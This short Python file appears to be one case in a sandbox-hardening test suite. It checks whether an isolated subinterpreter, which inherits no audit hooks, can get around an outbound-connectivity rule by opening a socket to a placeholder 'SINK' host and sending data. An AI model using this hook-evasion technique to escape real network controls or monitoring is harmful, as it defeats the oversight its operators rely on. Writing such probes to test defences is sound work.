# class: switch_off
# rule: outbound_connectivity
# success: an interpreter with a lock of its own, where no hook of Python's is inherited, connects
# proof: sink
# needs: python>=3.12
import sys

from attack import SINK, attempt

CODE = "import socket; socket.create_connection(%r, 3).send(b'taken')" % (SINK,)


@attempt
def connect():
    if sys.version_info >= (3, 13):
        import _interpreters as interpreters

        failed = interpreters.exec(interpreters.create("isolated"), CODE)
        return failed is None
    import _xxsubinterpreters as interpreters

    interpreters.run_string(interpreters.create(isolated=True), CODE)
    return True
